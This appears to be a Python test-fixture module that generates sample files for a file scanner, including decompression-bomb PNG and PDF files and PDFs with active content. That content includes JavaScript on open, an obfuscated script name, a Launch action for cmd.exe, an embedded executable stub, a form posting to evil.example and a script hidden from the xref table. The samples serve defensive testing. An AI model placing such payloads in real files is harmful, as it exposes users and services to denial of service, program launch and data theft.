"""Files as people, scanners and attackers send them, all made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

from PIL import Image, ImageDraw

GPS = 0x8825


def picture(format: str = "PNG", size: tuple[int, int] = (320, 200), **options: object) -> bytes:
    """A small picture with a black bar on white."""
    out = io.BytesIO()
    image = Image.new("RGB", size, "white")
    ImageDraw.Draw(image).rectangle((20, 20, size[0] // 2, 60), fill="black")
    image.save(out, format, **options)
    return out.getvalue()


def telephone_photo() -> bytes:
    """A JPEG that lies on its side, and tells place and owner."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn it a quarter
    exif[0x010F] = "CANARY-CAMERA"
    exif.get_ifd(GPS)[1] = "N"
    exif.get_ifd(GPS)[2] = (51.0, 30.0, 0.0)
    return picture("JPEG", (400, 200), exif=exif, comment=b"CANARY-COMMENT")


def animation(format: str) -> bytes:
    """Three frames."""
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, format, save_all=True, append_images=frames[1:], duration=100)
    return out.getvalue()


def huge_png(side: int = 30_000) -> bytes:
    """A real picture of ``side`` by ``side`` pixels in about 100 KB."""
    packer = zlib.compressobj(9)
    row = b"\x00" + bytes(side // 8 + 1)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def archive(content: bytes = b"x") -> bytes:
    """A zip file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("run.html", content)
    return out.getvalue()


def stream(data: bytes, entries: str = "") -> str:
    """A PDF stream object's text."""
    return f"<< /Length {len(data)} {entries} >>\nstream\n" + data.decode("latin-1") + "\nendstream"


def pdf(
    texts: Iterable[str] = ("Hello",), *, catalog: str = "", page: str = "", count: int = 0, content: str = "",
    more: Iterable[str] = (), hidden: bytes = b"",
) -> bytes:  # fmt: skip
    """A PDF with one page a text. ``catalog`` and ``page`` are further entries, ``more`` further objects (from 4),
    ``hidden`` is in no table."""
    objects = ["<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *more]
    first = 3 + len(objects)
    kids = []
    for text in texts:
        number = first + 2 * len(kids)
        kids.append(f"{number} 0 R")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {number + 1} 0 R"
            f" /Resources << /Font << /F1 3 0 R >> >> {page} >>"
        )
        objects.append(content or stream(_shown(text)))
    kids *= max(1, count)
    head = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {len(kids)} >>",
    ]
    return _file(head + objects, hidden)


def _shown(text: str) -> bytes:
    lines = (line.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)") for line in text.splitlines())
    drawn = "".join(f"({line}) Tj 0 -20 Td " for line in lines)
    return f"BT /F1 12 Tf 60 780 Td {drawn} ET".encode("latin-1")


def _file(objects: list[str], hidden: bytes) -> bytes:
    out, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + text.encode("latin-1") + b"\nendobj\n"
    out += hidden
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    size = len(objects) + 1
    tail = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R >>\n"
    return out + f"{tail}startxref\n{len(out)}\n%%EOF\n".encode()


def flate_bomb(mib: int = 200) -> bytes:
    """A PDF whose page unpacks to that many MiB from a few KB: packed twice."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(bytes(2**20)) for _ in range(mib)) + packer.flush()
    return pdf(content=stream(zlib.compress(once, 9), "/Filter [/FlateDecode /FlateDecode]"))


def locked_pdf() -> bytes:
    """A PDF behind a password."""
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE = {
    "a script at opening": pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "a script by name": pdf(catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "a script behind a page": pdf(page="/AA << /O << /S /JavaScript /JS (x) >> >>"),
    "a name in disguise": pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
    "a program to start": pdf(page="/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"),
    "a file inside": pdf(
        catalog="/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
        more=["<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream(b"MZ", "/Type /EmbeddedFile")],
    ),
    "a file that no page mentions": pdf(more=[stream(b"MZ", "/Type /EmbeddedFile")]),
    "a form that sends": pdf(page="/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil.example) >> >>]"),
    "a form of another kind": pdf(catalog="/AcroForm << /XFA [(a) (b)] >>"),
    "a script that the table leaves out": pdf(hidden=b"9 0 obj << /S /JavaScript /JS (x) >> endobj\n"),
    "a film": pdf(page="/Annots [<< /Subtype /RichMedia >>]"),
}
